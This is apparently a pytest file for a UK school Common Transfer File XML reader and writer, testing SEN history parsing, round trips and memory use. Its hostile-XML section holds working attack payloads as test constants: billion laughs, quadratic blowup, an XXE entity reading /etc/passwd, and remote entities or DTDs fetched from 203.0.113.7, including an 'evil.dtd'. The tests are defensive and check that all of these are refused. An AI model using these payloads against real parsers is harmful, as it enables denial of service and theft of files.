"""The CTF reader and writer: a file written from the specification, the round trip,
the XML attacks, and bounded memory."""

from __future__ import annotations

import datetime as dt
import io
import socket
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from builders import (
    assessment_completed,
    plan_agreed,
    record_after_concern,
    record_reaching_ehc_plan,
    review_held,
)
from sensupport import (
    UPN,
    Need,
    NeedType,
    Pupil,
    ReviewDecision,
    SenProvision,
    Sex,
    ValidationError,
    YearGroup,
    ctf,
)
from sensupport.process import ProvisionPeriod, SENHistoryReceived, Stage, SupportRecord

DATA = Path(__file__).parent / "data" / "ctf"
KEY = b"a test key of at least sixteen bytes"
RECEIVED = dt.date(2025, 11, 3)
HEADER = ctf.CTFHeader(
    source=ctf.School(la="801", estab="2000", name="Hill Primary School"),
    dest=ctf.School(la="801", estab="4001"),
    date_time=dt.datetime(2025, 11, 3, 9, 30),
    academic_year="2025",
    supplier_id="Example MIS",
)


def upn(n: int) -> str:
    body = f"8012000{24 + n // 1000 % 10:02d}{n % 1000:03d}"
    return UPN.check_letter_for(body) + body


# --- a 200-pupil CTF written by hand from the specification's element names ------

# Each pupil's SEN history, by pupil number mod 10: (start date, code) entries, in
# the order written (not always date order), and (type, rank) needs; then what the
# reader should make of it.
PLANS: list[tuple[list[tuple[str, str]], list[tuple[str, str]], str]] = [
    ([], [], "not_sen"),
    ([("2021-09-06", "K"), ("2023-07-20", "N")], [], "not_sen"),
    ([("2013-02-04", "S")], [("SLD", "1"), ("PD", "2")], "E"),
    ([("2012-09-03", "A"), ("2013-04-15", "P")], [("BESD", "1")], "K"),
    ([("2024-01-08", "K")], [("SLCN", "1"), ("ASD", "2")], "K"),
    (
        [("2024-09-02", "K"), ("2019-09-02", "K"), ("2021-03-01", "N")],
        [("MLD", "1")],
        "K",
    ),
    ([("2022-05-03", "K"), ("2023-11-20", "E")], [("ASD", "1")], "E"),
    ([("2025-01-06", "K")], [("NSA", "1")], "K"),
    ([("2014-01-13", "P")], [("MLD", "1"), ("BESD", "2")], "K"),
    ([("2020-02-03", "K")], [("SPLD", "1")], "K"),
]
# Pupils that cannot be read, each for its own reason, and the path it is named at.
BAD: dict[int, tuple[str, str]] = {
    17: ("upn.check_letter", "CTFpupilData/Pupil[17]/UPN"),
    50: (
        "parse.need_type",
        "CTFpupilData/Pupil[50]/SENhistory/SENneeds/SENneed[1]/SENtype",
    ),
    99: ("parse.date", "CTFpupilData/Pupil[99]/SENhistory/SEN[2]/StartDate"),
    150: (
        "ctf.need_rank",
        "CTFpupilData/Pupil[150]/SENhistory/SENneeds/SENneed[2]/SENtypeRank",
    ),
    199: ("ctf.missing", "CTFpupilData/Pupil[199]/BasicDetails/NCyearActual"),
}


def spec_pupil(n: int) -> str:
    """Pupil number ``n`` (from 1) of the 200-pupil file, as XML text."""
    entries, needs, _ = PLANS[n % 10]
    the_upn = upn(n)
    if n == 17:
        the_upn = ("C" if the_upn[0] != "C" else "D") + the_upn[1:]
    if n == 50:
        needs = [("DYSLEXIA", "1")]
    if n == 99:
        entries = [("2019-09-02", "A"), ("2020-02-30", "K")]
    if n == 150:
        needs = [("SLCN", "1"), ("ASD", "3")]
    year = "" if n == 199 else f"<NCyearActual>{n % 6 + 1}</NCyearActual>"
    sen = "".join(
        f"<SEN><StartDate>{on}</StartDate><SENprovision>{code}</SENprovision></SEN>"
        for on, code in entries
    )
    if needs:
        sen += (
            "<SENneeds>"
            + "".join(
                f"<SENneed><SENtype>{t}</SENtype><SENtypeRank>{r}</SENtypeRank></SENneed>"
                for t, r in needs
            )
            + "</SENneeds>"
        )
    extra = ""
    if n % 10 == 9:
        extra = (
            "<FSMhistory><FSMinstance><FSMstartDate>2020-01-01</FSMstartDate>"
            "</FSMinstance></FSMhistory><Contacts><Contact><Surname>Parentname"
            f"{n}</Surname></Contact></Contacts>"
        )
    return (
        f"<Pupil><UPN>{the_upn}</UPN><Surname>Zedname{n}</Surname>"
        f"<Forename>Élodie{n}</Forename><DOB>2015-0{n % 9 + 1}-1{n % 10}</DOB>"
        f"<Sex>{'MF'[n % 2]}</Sex><BasicDetails>{year}<Ethnicity>WBRI</Ethnicity>"
        f"</BasicDetails>{'<SENhistory>' + sen + '</SENhistory>' if sen else ''}"
        f"{extra}</Pupil>\n"
    )


def spec_ctf(pupils: int) -> Iterator[str]:
    """A CTF of ``pupils`` pupils, written from the specification, in pieces."""
    yield (
        '<?xml version="1.0" encoding="UTF-8"?>\n<CTfile><Header>'
        "<DocumentName>Common Transfer File</DocumentName><CTFversion>25.0</CTFversion>"
        "<DateTime>2025-11-03T09:30:00</DateTime>"
        "<DocumentQualifier>partial</DocumentQualifier><SupplierID>Example MIS"
        "</SupplierID><SourceSchool><LEA>801</LEA><Estab>2000</Estab><URN>100001</URN>"
        "<SchoolName>Hill Primary School</SchoolName><AcademicYear>2025</AcademicYear>"
        "</SourceSchool><DestSchool><LEA>801</LEA><Estab>4001</Estab></DestSchool>"
        "</Header><CTFpupilData>\n"
    )
    for n in range(1, pupils + 1):
        yield spec_pupil(n)
    yield "</CTFpupilData></CTfile>\n"


@pytest.fixture(scope="module")
def two_hundred() -> ctf.CTFImport:
    return ctf.import_ctf(spec_ctf(200), key=KEY, file="8012000_8014001_CTF.xml")


def test_the_200_pupil_file_reads_into_pupils_records_and_rejections(
    two_hundred: ctf.CTFImport,
) -> None:
    result = two_hundred
    expected = {n: PLANS[n % 10][2] for n in range(1, 201) if n not in BAD}
    assert len(result.pupils) == 200
    assert len(result.rejected) == len(BAD)
    assert len(result.not_sen) == sum(1 for k in expected.values() if k == "not_sen")
    assert len(result.records) == sum(1 for k in expected.values() if k != "not_sen")
    for outcome in result.pupils:
        kind = expected.get(outcome.position)
        if kind is None:
            assert outcome.rejected is not None
        elif kind == "not_sen":
            assert outcome.not_sen
            assert outcome.pupil is not None
        else:
            assert outcome.record is not None
            assert outcome.record.provision_on(RECEIVED).value == kind
    print(result)


def test_historic_codes_read_as_todays(two_hundred: ctf.CTFImport) -> None:
    by_position = {p.position: p for p in two_hundred.pupils}
    statement = by_position[2].record
    assert statement is not None
    assert statement.stage is Stage.EHC_PLAN
    assert statement.state.provision_changes == (
        (dt.date(2013, 2, 4), SenProvision.EHC_PLAN),
    )
    action = by_position[3].record
    assert action is not None
    assert action.state.provision_changes == (
        (dt.date(2012, 9, 3), SenProvision.SEN_SUPPORT),
        (dt.date(2013, 4, 15), SenProvision.SEN_SUPPORT),
    )
    assert [n.need_type for n in action.needs] == [NeedType.SEMH]
    # The text as written stays, for checks of the raw codes.
    assert by_position[3].provisions[0] == ctf.RawProvision(
        start_date="2012-09-03", provision="A"
    )
    assert by_position[3].needs == (ctf.RawNeed(sen_type="BESD", rank="1"),)


def test_entries_are_ordered_by_date_and_earlier_ones_kept(
    two_hundred: ctf.CTFImport,
) -> None:
    record = next(p for p in two_hundred.pupils if p.position == 5).record
    assert record is not None
    (history,) = record.events
    assert isinstance(history, SENHistoryReceived)
    assert history.provision_started_on == dt.date(2024, 9, 2)
    assert history.earlier == (
        ProvisionPeriod(
            started_on=dt.date(2019, 9, 2), provision=SenProvision.SEN_SUPPORT
        ),
        ProvisionPeriod(started_on=dt.date(2021, 3, 1), provision=SenProvision.NO_SEN),
    )
    assert history.received_from == "Hill Primary School (LA 801, estab 2000)"
    assert history.file == "8012000_8014001_CTF.xml"
    assert history.occurred_on == RECEIVED


def test_rejections_name_the_path_and_never_personal_data(
    two_hundred: ctf.CTFImport,
) -> None:
    for rejected in two_hundred.rejected:
        code, path = BAD[rejected.position]
        assert (code, path) in {(p.code, p.path) for p in rejected.problems}, rejected
        text = str(rejected) + repr(rejected)
        n = rejected.position
        for personal in (f"Zedname{n}", f"Élodie{n}", upn(n)[1:], "2015-0"):
            assert personal not in text


def test_every_element_not_used_is_reported_once_by_path(
    two_hundred: ctf.CTFImport,
) -> None:
    assert two_hundred.unused == {
        "CTFpupilData/Pupil/BasicDetails/Ethnicity": 200,
        "CTFpupilData/Pupil/FSMhistory": 20,
        "CTFpupilData/Pupil/FSMhistory/FSMinstance": 20,
        "CTFpupilData/Pupil/FSMhistory/FSMinstance/FSMstartDate": 20,
        "CTFpupilData/Pupil/Contacts": 20,
        "CTFpupilData/Pupil/Contacts/Contact": 20,
        "CTFpupilData/Pupil/Contacts/Contact/Surname": 20,
    }
    assert "Not used (7 paths):" in str(two_hundred)


def test_personal_data_is_read_but_not_shown(two_hundred: ctf.CTFImport) -> None:
    pupil = two_hundred.records[0].pupil
    assert pupil.upn is not None
    assert pupil.given_name is not None
    assert pupil.given_name.startswith("Élodie")
    assert pupil.pupil_id == ctf.pseudonym(pupil.upn, KEY)
    assert "Élodie" not in repr(two_hundred.records[0])
    assert pupil.upn.value not in repr(pupil)


def test_the_200_pupil_file_writes_back_equal(two_hundred: ctf.CTFImport) -> None:
    text = "".join(ctf.write_ctf(two_hundred.records, header=two_hundred.header))
    again = ctf.import_ctf([text], key=KEY, file="8012000_8014001_CTF.xml")
    assert again.records == two_hundred.records
    assert again.header == two_hundred.header
    assert not again.rejected
    assert not again.unused
    # What was written is CTF 25: no historic code, Sex not Gender.
    assert "<SENprovision>A</SENprovision>" not in text
    assert "<SENtype>BESD</SENtype>" not in text
    assert "<Sex>" in text
    assert "<Gender>" not in text


def test_a_file_read_in_tiny_pieces_reads_the_same(two_hundred: ctf.CTFImport) -> None:
    data = "".join(spec_ctf(200)).encode()
    pieces = (data[i : i + 7] for i in range(0, len(data), 7))
    again = ctf.import_ctf(pieces, key=KEY, file="8012000_8014001_CTF.xml")
    assert again == two_hundred


def test_the_committed_file_reads_from_its_path() -> None:
    result = ctf.import_ctf(DATA / "three-pupils.xml")
    assert len(result.records) == 1
    assert len(result.not_sen) == 1
    assert [p.code for p in result.rejected[0].problems] == [
        "upn.check_letter",
        "parse.date",
    ]
    record = result.records[0]
    assert record.events[0].file == "three-pupils.xml"
    assert record.pupil.pupil_id == "ctf-8012000-1"
    assert record.pupil.sex is Sex.FEMALE
    assert result.header.dest == ctf.School(la="801", estab="4001")
    assert result.unused["@xsi:noNamespaceSchemaLocation"] == 1
    assert result.unused["CTFpupilData/Pupil/Address/Postcode"] == 2


def test_a_binary_file_and_a_stream_read_alike() -> None:
    with open(DATA / "three-pupils.xml", "rb") as file:
        from_file = ctf.import_ctf(file, file="three-pupils.xml")
    assert from_file == ctf.import_ctf(DATA / "three-pupils.xml")


def test_the_header_is_read_before_the_pupils() -> None:
    reader = ctf.read_ctf(spec_ctf(3))
    assert reader.header.source.name == "Hill Primary School"
    assert reader.header.version == "25.0"
    assert reader.header.date_time == dt.datetime(2025, 11, 3, 9, 30)
    assert [p.position for p in reader] == [1, 2, 3]
    # The URN is read too: the school is known by it as well as by its numbers.
    assert reader.header.source.urn is not None
    assert "Header/SourceSchool/URN" not in reader.unused


def test_gender_from_earlier_versions_is_read_as_sex() -> None:
    text = "".join(spec_ctf(1)).replace("<Sex>F</Sex>", "<Gender>M</Gender>")
    (outcome,) = ctf.read_ctf([text])
    assert outcome.pupil is not None
    assert outcome.pupil.sex is Sex.MALE


def test_history_starting_after_the_file_was_received_is_rejected() -> None:
    text = "".join(spec_ctf(4))
    (*_, outcome) = ctf.read_ctf([text], received_on=dt.date(2024, 1, 1))
    assert outcome.rejected is not None
    assert [p.code for p in outcome.rejected.problems] == [
        "history.started_after_received"
    ]
    assert outcome.rejected.problems[0].path.startswith(
        "CTFpupilData/Pupil[4]/SENhistory"
    )


def test_a_short_key_is_refused() -> None:
    with pytest.raises(ValueError, match="16 bytes"):
        ctf.read_ctf(spec_ctf(1), key=b"short")


# --- the header ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "code", "path"),
    [
        (
            "<CTFversion>25.0</CTFversion><SourceSchool><LEA>801</LEA><Estab>2000</Estab></SourceSchool>",
            "ctf.missing",
            "Header/DateTime",
        ),
        (
            "<CTFversion>25.0</CTFversion><DateTime>2025-11-03T09:30:00</DateTime>",
            "ctf.missing",
            "Header/SourceSchool",
        ),
        (
            "<CTFversion>25.0</CTFversion><DateTime>yesterday</DateTime><SourceSchool><LEA>801</LEA><Estab>2000</Estab></SourceSchool>",
            "ctf.date_time",
            "Header/DateTime",
        ),
    ],
)
def test_a_header_that_cannot_be_read_is_an_error(
    header: str, code: str, path: str
) -> None:
    text = f"<CTfile><Header>{header}</Header><CTFpupilData/></CTfile>"
    with pytest.raises(ValidationError) as caught:
        list(ctf.read_ctf([text]))
    assert (code, path) in {(p.code, p.path) for p in caught.value.problems}


def test_pupils_before_the_header_are_an_error() -> None:
    text = "<CTfile><CTFpupilData><Pupil/></CTFpupilData><Header/></CTfile>"
    with pytest.raises(ValidationError) as caught:
        list(ctf.read_ctf([text]))
    assert caught.value.codes == ("ctf.no_header",)


# --- hostile XML ---------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE CTfile [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CTfile><Header><SupplierID>&lol9;</SupplierID></Header></CTfile>"""
QUADRATIC = (
    f'<?xml version="1.0"?>\n<!DOCTYPE CTfile [<!ENTITY a "{"x" * 50_000}">]>\n'
    f"<CTfile><Header><SupplierID>{'&a;' * 50_000}</SupplierID></Header></CTfile>"
)
EXTERNAL_FILE = """<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<CTfile><Header><SupplierID>&secret;</SupplierID></Header></CTfile>"""
EXTERNAL_HTTP = """<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY remote SYSTEM "http://203.0.113.7/ctf.txt">]>
<CTfile><Header><SupplierID>&remote;</SupplierID></Header></CTfile>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE CTfile SYSTEM "http://203.0.113.7/CTF_25.dtd">
<CTfile/>"""
PARAMETER_ENTITIES = """<?xml version="1.0"?>
<!DOCTYPE CTfile [
 <!ENTITY % remote SYSTEM "http://203.0.113.7/evil.dtd">
 %remote;
 <!ENTITY % inner "<!ENTITY leak 'x'>">
 %inner;
]>
<CTfile/>"""
DTD_WITHOUT_ENTITIES = """<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ELEMENT CTfile ANY>]>
<CTfile/>"""
BARE_DOCTYPE = '<?xml version="1.0"?>\n<!DOCTYPE CTfile>\n<CTfile/>'
UNDECLARED_ENTITY = "<CTfile><Header><SupplierID>&lol9;</SupplierID></Header></CTfile>"


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the reader tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize(
    ("document", "code"),
    [
        pytest.param(BILLION_LAUGHS, "ctf.dtd", id="billion-laughs"),
        pytest.param(QUADRATIC, "ctf.dtd", id="quadratic-blowup"),
        pytest.param(EXTERNAL_FILE, "ctf.dtd", id="external-entity-file"),
        pytest.param(EXTERNAL_HTTP, "ctf.dtd", id="external-entity-http"),
        pytest.param(EXTERNAL_DTD, "ctf.dtd", id="external-dtd"),
        pytest.param(PARAMETER_ENTITIES, "ctf.dtd", id="parameter-entities"),
        pytest.param(DTD_WITHOUT_ENTITIES, "ctf.dtd", id="dtd-without-entities"),
        pytest.param(BARE_DOCTYPE, "ctf.dtd", id="bare-doctype"),
        pytest.param(UNDECLARED_ENTITY, "ctf.malformed", id="undeclared-entity"),
    ],
)
def test_xml_attacks_are_refused(document: str, code: str) -> None:
    for source in ([document], [document.encode()], io.BytesIO(document.encode())):
        with pytest.raises(ValidationError) as caught:
            list(ctf.read_ctf(source))
        assert caught.value.codes == (code,)
        assert "passwd" not in str(caught.value)


def test_an_attack_split_across_pieces_is_refused_as_whole() -> None:
    data = BILLION_LAUGHS.encode()
    with pytest.raises(ValidationError) as caught:
        list(ctf.read_ctf(data[i : i + 5] for i in range(0, len(data), 5)))
    assert caught.value.codes == ("ctf.dtd",)


def test_malformed_xml_is_named_by_line_and_column() -> None:
    text = "<CTfile>\n  <Header>\n    <CTFversion>25</Header>\n</CTfile>"
    with pytest.raises(ValidationError) as caught:
        list(ctf.read_ctf([text]))
    (problem,) = caught.value.problems
    assert problem.code == "ctf.malformed"
    assert problem.path == "line 3"
    assert "line 3, column 21: mismatched tag" in problem.message


@pytest.mark.parametrize(
    ("document", "code"),
    [
        pytest.param("<html><body/></html>", "ctf.root", id="not-a-ctf"),
        pytest.param(
            "<CTfile>" + "<a>" * 40 + "</a>" * 40 + "</CTfile>",
            "ctf.too_deep",
            id="too-deep",
        ),
        pytest.param(
            "<CTfile><Header><SupplierID>"
            + "x" * 5000
            + "</SupplierID></Header></CTfile>",
            "ctf.text_too_long",
            id="text-too-long",
        ),
        pytest.param(
            "<CTfile>" + "".join(f"<e{i}/>" for i in range(2500)) + "</CTfile>",
            "ctf.too_many_elements",
            id="too-many-distinct-elements",
        ),
        pytest.param("", "ctf.malformed", id="empty"),
        pytest.param("<CTfile><Header>", "ctf.malformed", id="truncated"),
        pytest.param("<CTfile/>", "ctf.no_header", id="no-header"),
    ],
)
def test_documents_that_are_not_ctfs_are_refused(document: str, code: str) -> None:
    with pytest.raises(ValidationError) as caught:
        list(ctf.read_ctf([document]))
    assert caught.value.codes == (code,)


def test_a_pupil_with_too_many_elements_is_refused() -> None:
    sen = "<SEN><StartDate>2020-01-01</StartDate><SENprovision>K</SENprovision></SEN>"
    text = "".join(spec_ctf(0)).replace(
        "<CTFpupilData>",
        f"<CTFpupilData><Pupil><SENhistory>{sen * 1000}</SENhistory></Pupil>",
    )
    with pytest.raises(ValidationError) as caught:
        list(ctf.read_ctf([text]))
    assert caught.value.codes == ("ctf.too_many_elements",)


# --- writing -------------------------------------------------------------------


def test_a_pupil_without_a_upn_cannot_be_written() -> None:
    record = record_after_concern()
    with pytest.raises(ValidationError) as caught:
        list(ctf.write_ctf([record], header=HEADER))
    (problem,) = caught.value.problems
    assert (problem.code, problem.path) == ("ctf.no_upn", "records[0].pupil.upn")


def test_text_xml_cannot_carry_is_refused_without_quoting_it() -> None:
    record = history_record(given_name="Ada\x07Secret")
    with pytest.raises(ValidationError) as caught:
        list(ctf.write_ctf([record], header=HEADER))
    assert caught.value.codes == ("ctf.not_xml_text",)
    assert "Secret" not in str(caught.value)


def test_markup_in_names_is_escaped_and_read_back() -> None:
    record = history_record(given_name='<Ann & "Jo">\r', family_name="O'Neil")
    (outcome,) = ctf.read_ctf(
        ctf.write_ctf([record], header=HEADER), key=KEY, received_on=RECEIVED
    )
    assert outcome.pupil is not None
    assert outcome.pupil.given_name == '<Ann & "Jo">'
    assert outcome.pupil.family_name == "O'Neil"


def test_a_record_that_went_on_from_its_history_writes_the_history_it_implies() -> None:
    record = record_reaching_ehc_plan()
    record = attrs.evolve(
        record, pupil=attrs.evolve(record.pupil, upn=UPN.parse(upn(1)))
    )
    (outcome,) = ctf.read_ctf(
        ctf.write_ctf([record], header=HEADER), received_on=dt.date(2026, 6, 1)
    )
    assert outcome.record is not None
    assert outcome.record.state.provision_changes == record.state.provision_changes
    assert outcome.record.needs == tuple(
        attrs.evolve(n, identified_on=None, evidence=()) for n in record.needs
    )


def test_a_record_whose_support_ended_reads_back_with_no_current_sen() -> None:
    record = record_after_concern(
        assessment_completed(),
        plan_agreed(),
        review_held(decision=ReviewDecision.END_SUPPORT),
    )
    record = attrs.evolve(
        record, pupil=attrs.evolve(record.pupil, upn=UPN.parse(upn(2)))
    )
    text = "".join(ctf.write_ctf([record], header=HEADER))
    assert "<SENneeds>" not in text
    (outcome,) = ctf.read_ctf([text])
    assert outcome.not_sen
    assert [p.provision for p in outcome.provisions] == ["K", "N"]


# --- the round trip, for any record that opens from history --------------------


def history_record(
    *, given_name: str | None = "Ada", family_name: str | None = "Lovelace"
) -> SupportRecord:
    the_upn = UPN.parse(upn(7))
    pupil = Pupil(
        pupil_id=ctf.pseudonym(the_upn, KEY),
        year_group=YearGroup.Y4,
        upn=the_upn,
        given_name=given_name,
        family_name=family_name,
    )
    history = SENHistoryReceived(
        occurred_on=RECEIVED,
        provision=SenProvision.SEN_SUPPORT,
        provision_started_on=dt.date(2024, 3, 4),
        needs=(Need(need_type=NeedType.SLCN, identified_on=None),),
        received_from=HEADER.received_from,
    )
    return SupportRecord(pupil=pupil, events=(history,))


NAME = (
    st.text(
        alphabet=st.characters(
            codec="utf-8", exclude_categories=("Cs", "Cc", "Zs", "Zl", "Zp")
        ),
        min_size=1,
        max_size=20,
    )
    .map(str.strip)
    .filter(bool)
)


@st.composite
def sen_histories(
    draw: st.DrawFn, *, received_on: dt.date = RECEIVED
) -> SENHistoryReceived:
    """A `SENHistoryReceived` as a CTF carries it: dates, codes and ranked needs."""
    starts = sorted(
        draw(
            st.sets(st.dates(dt.date(2005, 1, 1), received_on), min_size=1, max_size=5)
        )
    )
    codes = [draw(st.sampled_from(list(SenProvision))) for _ in starts[:-1]]
    provision = draw(st.sampled_from([SenProvision.SEN_SUPPORT, SenProvision.EHC_PLAN]))
    assessed = [t for t in NeedType if t is not NeedType.NSA]
    needs: tuple[Need, ...]
    if provision is SenProvision.SEN_SUPPORT and draw(st.booleans()):
        needs = (Need(need_type=NeedType.NSA, identified_on=None),)
    else:
        types = draw(st.lists(st.sampled_from(assessed), max_size=2, unique=True))
        needs = tuple(
            Need(need_type=t, rank=rank, identified_on=None)
            for rank, t in enumerate(types, start=1)
        )
    return SENHistoryReceived(
        occurred_on=received_on,
        provision=provision,
        provision_started_on=starts[-1],
        needs=needs,
        received_from=HEADER.received_from,
        file="round-trip.xml",
        earlier=tuple(
            ProvisionPeriod(started_on=on, provision=code)
            for on, code in zip(starts, codes, strict=False)
        ),
    )


@st.composite
def ctf_records(draw: st.DrawFn) -> SupportRecord:
    """A record that opens from a CTF's SEN history, its pupil named by UPN."""
    serial = draw(st.integers(0, 999_999))
    the_upn = UPN.parse(upn(serial))
    pupil = Pupil(
        pupil_id=ctf.pseudonym(the_upn, KEY),
        year_group=draw(st.sampled_from(list(YearGroup))),
        sex=draw(st.none() | st.sampled_from(list(Sex))),
        upn=the_upn,
        date_of_birth=draw(
            st.none() | st.dates(dt.date(2004, 9, 1), dt.date(2023, 8, 31))
        ),
        given_name=draw(st.none() | NAME),
        family_name=draw(st.none() | NAME),
        # A record read from a CTF belongs to the school the file is for.
        school=HEADER.dest,
    )
    return SupportRecord(pupil=pupil, events=(draw(sen_histories()),))


@given(records=st.lists(ctf_records(), max_size=6, unique_by=lambda r: r.pupil.upn))
def test_records_from_history_write_and_read_back_equal(
    records: list[SupportRecord],
) -> None:
    text = ctf.write_ctf(records, header=HEADER)
    again = ctf.import_ctf(text, key=KEY, received_on=RECEIVED, file="round-trip.xml")
    assert list(again.records) == records
    assert again.header == HEADER
    assert not again.unused


# --- memory --------------------------------------------------------------------


def peak_reading(pupils: int) -> int:
    tracemalloc.start()
    try:
        for _ in ctf.read_ctf(spec_ctf(pupils)):
            pass
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_does_not_grow_with_the_number_of_pupils() -> None:
    peak_reading(200)  # Imports and caches fill on the first read, not per pupil.
    small, large = peak_reading(300), peak_reading(1200)
    # Four times the pupils: memory that grew with them would be about four times.
    assert large < small * 2, (small, large)


def test_reader_keeps_nothing_of_pupils_already_read() -> None:
    reader = ctf.read_ctf(spec_ctf(30))
    seen: list[Any] = []
    for outcome in reader:
        seen.append(outcome.position)
    assert seen == list(range(1, 31))
